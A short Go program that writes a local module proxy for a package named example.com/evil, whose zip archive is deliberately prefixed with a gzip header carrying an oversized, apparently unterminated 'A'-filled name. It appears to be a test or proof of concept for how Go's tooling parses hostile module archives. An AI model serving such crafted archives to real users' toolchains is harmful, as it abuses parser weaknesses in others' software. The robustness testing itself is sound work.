package main

import (
	"archive/zip"
	"bytes"
	"os"
	"path/filepath"
)

// writeModule writes a proxy of example.com/evil v1.0.0, whose zip has something before
// it that is gzip, and an endless name of gzip in that. Go reads a zip from its end.
func writeModule(dir string) {
	const mod = "module example.com/evil\n\ngo 1.19\n"
	var out bytes.Buffer
	prefix := member(sea("\x1f\x8b\x08\x08\x00\x00\x00\x00\x00\x03", 'A', 16<<10, false))
	out.Write(prefix)
	w := zip.NewWriter(&out)
	w.SetOffset(int64(len(prefix)))
	for name, text := range map[string]string{"go.mod": mod,
		"evil.go": "package evil\n\nconst X = 1\n"} {
		f, err := w.Create("example.com/evil@v1.0.0/" + name)
		check(err)
		_, err = f.Write([]byte(text))
		check(err)
	}
	check(w.Close())
	at := filepath.Join(dir, "example.com/evil/@v")
	check(os.MkdirAll(at, 0o755))
	for name, text := range map[string]string{"list": "v1.0.0\n", "v1.0.0.mod": mod,
		"v1.0.0.info": `{"Version":"v1.0.0","Time":"2020-01-01T00:00:00Z"}`,
		"v1.0.0.zip":  out.String()} {
		check(os.WriteFile(filepath.Join(at, name), []byte(text), 0o644))
	}
}
